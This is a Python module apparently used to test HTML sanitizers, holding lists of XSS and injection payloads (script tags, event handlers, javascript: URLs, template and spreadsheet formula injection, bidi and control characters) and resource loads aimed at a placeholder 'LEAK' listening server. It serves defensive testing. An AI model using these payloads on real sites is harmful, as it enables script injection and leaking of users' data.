"""Values that try to run code, load files, navigate away or break the layout.

``LEAK`` stands for a listening server, ``RUN`` for a script.
"""

from __future__ import annotations

MARKUP = [
    "<script>RUN</script>",
    "<SCRIPT SRC=LEAK/script></SCRIPT>",
    "</script><script>RUN</script>",
    "<scr<script>ipt>RUN</script>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><image href=LEAK/svg-image /></svg>",
    "<svg><use href=LEAK/use#x /></svg>",
    "<svg><foreignObject><body onload=RUN></foreignObject></svg>",
    "<img src=x onerror=RUN>",
    "<img src=LEAK/img>",
    "<img srcset='LEAK/srcset 1x'>",
    '<img src="x" onerror="RUN"',
    "<picture><source srcset=LEAK/source><img></picture>",
    "<body onload=RUN>",
    "<body background=LEAK/background>",
    "<table background=LEAK/table><tr><td background=LEAK/td>x</table>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN><option>",
    "<textarea autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<video autoplay src=LEAK/video onloadstart=RUN></video>",
    "<video poster=LEAK/poster></video>",
    "<audio autoplay src=LEAK/audio onerror=RUN></audio>",
    "<marquee onstart=RUN>x</marquee>",
    "<iframe src=LEAK/iframe></iframe>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<iframe src=javascript:RUN></iframe>",
    "</iframe><script>RUN</script>",
    '"></iframe><img src=x onerror=RUN>',
    "<object data=LEAK/object></object>",
    "<embed src=LEAK/embed>",
    "<link rel=stylesheet href=LEAK/css>",
    "<link rel=preload as=image href=LEAK/preload>",
    "<link rel=prefetch href=LEAK/prefetch>",
    "<link rel=preconnect href=LEAK>",
    "<meta http-equiv=refresh content='0;url=LEAK/refresh'>",
    (
        "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
        "<script>RUN</script>"
    ),
    "<base href=LEAK/><img src=base>",
    "<style>@import url(LEAK/import);</style>",
    "<style>*{background:url(LEAK/style)!important}</style>",
    "<style>@font-face{font-family:x;src:url(LEAK/font)}*{font-family:x}</style>",
    "<div style='background:url(LEAK/inline)'>x</div>",
    (
        "<p style='position:fixed;inset:0;width:9999px;height:9999px;background:red'>"
        "over everything</p>"
    ),
    "<form action=LEAK/form><button autofocus>x</button></form>",
    "<form id=f action=javascript:RUN><button form=f>x</button></form>",
    "<a href='javascript:RUN'>x</a>",
    "<a href='java&#115;cript&colon;RUN'>x</a>",
    "<a href='LEAK/ping' ping='LEAK/ping' target=_top>x</a>",
    "<math><mtext><style><img src=x onerror=RUN></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
    "<template><script>RUN</script></template>",
    "<frameset onload=RUN><frame src=LEAK/frame></frameset>",
    "<!--><img src=x onerror=RUN>-->",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    "<xmp><img src=x onerror=RUN></xmp>",
    "<plaintext>the rest is swallowed",
    "<html manifest=LEAK/manifest>",
    "<keygen autofocus onfocus=RUN>",
    "{{{contact.first_name|<img src=x onerror=RUN>}}}",
]
"""HTML, mostly from well-known lists of what sanitizers have missed."""

TEXTS = [
    "' onmouseover='RUN' x='",
    '" autofocus onfocus="RUN" x="',
    "javascript:RUN",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "$$\\href{javascript:RUN}{x}$$",
    "\\(\\require{html}\\href{javascript:RUN}{x}\\)",
    "[x](javascript:RUN)",
    "![x](LEAK/markdown)",
    '=HYPERLINK("LEAK/formula")',
    "{{{{{{contact.first_name}}}}}}",
    "{{ constructor.constructor('RUN')() }}",
    "${RUN}",
    "%3Cscript%3ERUN%3C/script%3E",
    "\u202etxet desrever\u202c",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309algo" * 8,
    "W" * 400,
    "line one\nline two\r\nline three",
    "nothing\u0000to see\u001b[31m",
    "\ufeff\u200b\u200d invisible",
    "😀" * 60,
]
"""Text that is harmless as HTML but not in attributes, formulas, Markdown or terminals."""


def hostile(leak: str) -> list[str]:
    """Return every value, with a script that would be noticed and the URL of a listening server."""
    run = "(top.ran=1,document.title=`ran`,alert(1))"
    return [value.replace("RUN", run).replace("LEAK", leak) for value in [*MARKUP, *TEXTS]]
